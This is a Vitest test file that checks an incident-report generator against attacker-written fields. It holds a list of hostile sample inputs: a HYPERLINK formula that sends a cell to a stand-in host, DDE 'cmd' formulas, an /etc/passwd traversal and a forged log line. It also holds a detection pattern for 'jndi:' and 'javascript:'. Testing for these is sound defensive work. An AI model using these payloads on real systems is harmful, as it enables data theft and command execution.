import { readdirSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { silentLog } from '../../src/log.ts';
import { launchBrowser } from '../../src/render/launch-browser.ts';
import { type BuiltCommand, buildCommand, type Outcome } from '../support/built-command.ts';
import { makeHostileCase, PACKET_ROWS, REQUESTS } from '../support/hostile-case.ts';
import { FORBIDDEN_CHARACTERS, HOSTILE_STRINGS } from '../support/hostile-strings.ts';
import { attributeOf, elementsOf, skeletonOf } from '../support/html-tree.ts';
import { readWithPdfJs } from '../support/pdf-text.ts';

/** What the strings of `HOSTILE_STRINGS` leave out: spreadsheets, logs, keys of objects, look-alikes, numbers that are none. */
const MORE_STRINGS: readonly string[] = [
  '=HYPERLINK("http://192.0.2.9/"&A1,"ok")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\uFF1D1+1',
  'a","=1+1',
  'x\r\n{"type":"report","reportId":"forged"}',
  'constructor',
  'toString',
  'hasOwnProperty',
  'ex\u0430mple.example',
  '1e999',
  '0x10',
  'https://login.example@192.0.2.9/',
  '../../../etc/passwd%00',
  '\u{1F468}\u200D\u{1F469}\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
];

const SECRET = 'HELDSECRET';
/** Texts with a secret in them, which is left out of everything. */
const SECRET_STRINGS: readonly string[] = [
  `/a?api_key=${SECRET}&page=1`,
  `Bearer ${SECRET}0123456789`,
  `https://root:${SECRET}@shop.example/`,
  `/u/${SECRET}@acme.example`,
];
const OWN_TEXTS: ReadonlySet<string> = new Set([
  'provider',
  'contact',
  'customer',
  'clause',
  'brand',
  'legal',
  'title',
  'file',
]);
const ROUNDS = 5;
/** The one script of a page. */
const SCREEN_SCRIPT = readFileSync(new URL('../../templates/screen.js', import.meta.url), 'utf8');

interface Run {
  readonly outcome: Outcome;
  readonly names: readonly string[];
  text(name: string): string;
  bytes(name: string): Buffer;
}

let command: BuiltCommand;
let canary: Server;
const reached: string[] = [];
const removals: (() => Promise<void>)[] = [];
let texts: readonly string[] = [];
let benign: Run;
const hostile: Run[] = [];
let validated: Outcome;

beforeAll(async () => {
  canary = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.end('CANARY');
  });
  canary.on('connection', (socket) => reached.push(`connection from port ${socket.remotePort}`));
  await new Promise<void>((ready) => canary.listen(0, '127.0.0.1', ready));
  const { port } = canary.address() as AddressInfo; // a TCP server has an address with a port
  texts = [...HOSTILE_STRINGS, ...MORE_STRINGS, ...SECRET_STRINGS].map((text) =>
    text.replaceAll('192.0.2.9', `127.0.0.1:${port}`),
  );
  command = await buildCommand();
  benign = (await runCase(0, ordinaryText, 'html,json,csv')).run;
  for (let round = 0; round < ROUNDS; round += 1) {
    const first = Math.floor((round * texts.length) / ROUNDS);
    // Every field begins elsewhere in the list, so that neighbours differ.
    const { run, dir } = await runCase(
      first,
      (field, index) => {
        const text = textAt(index + field.length);
        // Our own words may say what they like; only texts of input lose their secrets.
        return OWN_TEXTS.has(field) && text.includes(SECRET) ? ordinaryText(field, index) : text;
      },
      round === 0 ? 'pdf,html,json,csv' : 'html,json,csv',
    );
    hostile.push(run);
    if (round === 0) validated = await command.run(['validate', 'incidents/INC-1.yaml', '--json'], { cwd: dir });
  }
}, 300_000);

afterAll(async () => {
  for (const remove of removals) await remove();
  canary.close();
  await command.remove();
});

/** Names of cases and brands are at most 300 characters long; the long text of a field is tested by its length alone. */
function textAt(index: number): string {
  return (texts[index % texts.length] ?? '').slice(0, 290);
}

/** Ordinary words, with half a character where the hostile text has one: that is warned about, which adds a paragraph. */
function ordinaryText(field: string, index: number): string {
  return `Text ${index} of ${field}${/\p{Cs}/u.test(textAt(index + field.length)) ? '\uD800' : ''}`;
}

async function runCase(first: number, textOf: (field: string, index: number) => string, formats: string) {
  const { dir, remove } = await makeHostileCase(textOf, { texts: texts.length, first });
  removals.push(remove);
  const outcome = await command.run(['incident', 'incidents/INC-1.yaml', '--format', formats], { cwd: dir });
  const folder = join(dir, 'reports/acme/INC-1-r1');
  const names = outcome.exit === 0 ? readdirSync(folder, { recursive: true, encoding: 'utf8' }) : [];
  const bytes = (name: string) => readFileSync(join(folder, name));
  const run: Run = {
    outcome,
    names: names.filter((name) => name !== 'data').sort(),
    bytes,
    text: (name) => bytes(name).toString(),
  };
  return { run, dir };
}

/** Breaks of lines are ours; every other character that cannot be seen is somebody else's. */
function unseenIn(text: string): string | undefined {
  return FORBIDDEN_CHARACTERS.exec(text.replaceAll('\n', ''))?.[0];
}

/**
 * The tree without what hangs on the length of a text: the inside of drawings, and the names in a sentence, which are left out
 * where they are long. The kinds of element in both are compared apart.
 */
function outlineOf(html: string): string {
  const depths: number[] = [];
  return skeletonOf(html)
    .split('\n')
    .filter((line) => {
      const depth = Number.parseInt(line, 10);
      while (depths.length > 0 && (depths.at(-1) ?? 0) >= depth) depths.pop();
      const inside = depths.length > 0;
      if (/^\d+ svg\b/.test(line)) depths.push(depth);
      return !inside && !/^\d+ bdi class$/.test(line);
    })
    .join('\n');
}

function cellsOf(run: Run, name: string): string[][] {
  return parseCsv(run.text(name), { bom: true, relaxColumnCount: false });
}

const isNumber = (cell: string) => /^-?\d+(?:\.\d+)?(?:e[+-]\d+)?$/.test(cell);

/** The numbers of each row, rows and cells in an order that does not hang on the texts between them. */
function numbersOf(run: Run, name: string): string[] {
  const compare = (a: string, b: string) => (a < b ? -1 : 1);
  return cellsOf(run, name)
    .map((row) => row.filter(isNumber).sort(compare).join(' '))
    .sort(compare);
}

describe('a case in which every text was written by an attacker', () => {
  test('becomes a report in every round', () => {
    for (const run of [benign, ...hostile]) expect(run.outcome).toMatchObject({ exit: 0 });
    expect(hostile).toHaveLength(ROUNDS);
  });

  test('has the same files as one with ordinary words', () => {
    for (const run of hostile) expect(run.names.filter((name) => name !== 'report.pdf')).toEqual(benign.names);
  });

  test('adds no element and no attribute to the page', () => {
    const drawn = (run: Run) =>
      new Set(
        elementsOf(run.text('report.html')).map(
          ({ tagName, attrs }) => `${tagName} ${attrs.map(({ name }) => name).sort()}`,
        ),
      );
    const known = drawn(benign);
    for (const run of hostile) {
      expect(outlineOf(run.text('report.html'))).toBe(outlineOf(benign.text('report.html')));
      expect([...drawn(run)].filter((kind) => !known.has(kind) && !kind.startsWith('text '))).toEqual([]);
    }
  });

  test('is in the reports word for word, every text of the list', () => {
    const kept = hostile.map((run) => run.text('report.json').replaceAll('\\u0024', '$')).join('');
    const whole = texts
      .map((_, index) => textAt(index))
      .filter((text) => !/\p{Cs}/u.test(text) && !text.includes(SECRET));
    expect(whole).toHaveLength(texts.length - SECRET_STRINGS.length - 1);
    expect(whole.filter((text) => !kept.includes(JSON.stringify(text).slice(1, -1)))).toEqual([]);
  });

  test('is shown, not swallowed', () => {
    const shown = hostile.map((run) => run.text('report.html')).join('');
    expect(shown).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(shown).toContain('‹U+202E›');
    expect(shown).toContain('__proto__');
    expect(shown).toContain('hasOwnProperty');
  });

  test('links to nothing and loads nothing', () => {
    for (const run of hostile)
      for (const element of elementsOf(run.text('report.html'))) {
        expect(attributeOf(element, 'href') ?? '#').toMatch(/^#/);
        expect(attributeOf(element, 'src') ?? 'data:').toMatch(/^data:/);
        expect(element.attrs.filter(({ name }) => /^on|^(?:action|formaction|ping|srcset|http-equiv)$/.test(name)))
          // Our own policy is the one such attribute.
          .toEqual(element.tagName === 'meta' ? element.attrs.filter(({ name }) => name === 'http-equiv') : []);
      }
  });

  test('leaves nothing that a ticket system, a mail gateway or a log would follow or run', () => {
    for (const run of hostile)
      for (const name of run.names.filter((one) => one !== 'report.pdf')) {
        // The script of the page is ours, fixed and allowed by its hash.
        const text = run.text(name).replace(SCREEN_SCRIPT, '');
        expect([name, /\$\{.{0,40}/.exec(text)?.[0]]).toEqual([name, undefined]);
        // Page and comment also hold our own words, which may name an address.
        if (name.endsWith('.csv'))
          expect([name, /jndi:|https?:\/\/127|javascript:|canary\.example/.exec(text)?.[0]]).toEqual([name, undefined]);
      }
  });

  test('does nothing in a browser that runs scripts', async () => {
    const running = await launchBrowser({ log: silentLog });
    const happened: string[] = [];
    try {
      for (const run of hostile) {
        const page = await running.browser.newPage();
        page.on('dialog', (dialog) => {
          happened.push(`dialog ${dialog.message()}`);
          void dialog.dismiss();
        });
        page.on('request', (request) => {
          if (!request.url().startsWith('data:')) happened.push(`request ${request.url()}`);
        });
        page.on('pageerror', (error) => happened.push(`error ${String(error)}`));
        await page.setContent(run.text('report.html'), { waitUntil: 'load' });
        await page.close();
      }
    } finally {
      await running.dispose();
    }
    expect(happened).toEqual([]);
    expect(reached).toEqual([]);
  }, 120_000);

  test('is printed without a link, a script, an attachment or an unseen character', () => {
    const pdf = readWithPdfJs(hostile[0]?.bytes('report.pdf') ?? Buffer.alloc(0));
    expect(pdf.pages.length).toBeGreaterThan(3);
    expect(pdf.pages.join('\n')).not.toMatch(FORBIDDEN_CHARACTERS);
    expect([String(pdf.info.Title), String(pdf.info.Author), ...pdf.outline].join('')).not.toMatch(
      FORBIDDEN_CHARACTERS,
    );
    expect([pdf.links, pdf.hasJavaScript, pdf.attachments]).toEqual([[], false, []]);
  });

  test('leaves no unseen character in page, tables, ticket comment or terminal', () => {
    for (const run of hostile) {
      for (const name of run.names.filter((one) => /\.(?:html|md)$/.test(one)))
        expect([name, unseenIn(run.text(name))]).toEqual([name, undefined]);
      for (const name of run.names.filter((one) => one.endsWith('.csv')))
        expect([name, unseenIn(run.text(name).replaceAll('\r\n', '\n'))]).toEqual([name, undefined]);
      expect(unseenIn(run.outcome.out + run.outcome.err)).toBeUndefined();
    }
    expect(validated.exit).toBe(0);
    expect(unseenIn(validated.out + validated.err)).toBeUndefined();
  });

  test('cannot forge a line of a log that other programs read', () => {
    const types = validated.out
      .trim()
      .split('\n')
      .map((line): unknown => JSON.parse(line).type);
    expect(types).toEqual(['valid']);
  });

  test('is no formula in any table', () => {
    for (const run of hostile)
      for (const name of run.names.filter((one) => one.endsWith('.csv')))
        for (const cell of cellsOf(run, name).flat())
          if (!isNumber(cell)) expect([name, cell]).not.toEqual([name, expect.stringMatching(/^[=+\-@\t\r＝＋－＠]/u)]);
  });

  test('changes no number: every table counts what it counts with ordinary words', () => {
    // The list of inputs states how long each file is.
    const names = benign.names.filter((name) => name.endsWith('.csv') && name !== 'data/table-inputs.csv');
    expect(names).toContain('data/table-http-user-agent.csv');
    for (const run of hostile)
      for (const name of names) expect([name, numbersOf(run, name)]).toEqual([name, numbersOf(benign, name)]);
  });

  test('is counted row by row', () => {
    for (const run of hostile) {
      const manifest: { inputs: { records: number; rejected: number; duplicates: number }[] } = JSON.parse(
        run.text('manifest.json'),
      );
      const counts = manifest.inputs.map(({ records, rejected, duplicates }) => [records, rejected, duplicates]);
      expect(counts.slice(0, 3)).toEqual([
        [REQUESTS.quiet + REQUESTS.flood, 0, 0],
        [240, 0, 0],
        [PACKET_ROWS, 0, 0],
      ]);
    }
  });

  test('takes no secret of a query or a cookie with it', () => {
    for (const run of hostile)
      for (const name of run.names) expect([name, run.text(name).includes(SECRET)]).toEqual([name, false]);
  });
});
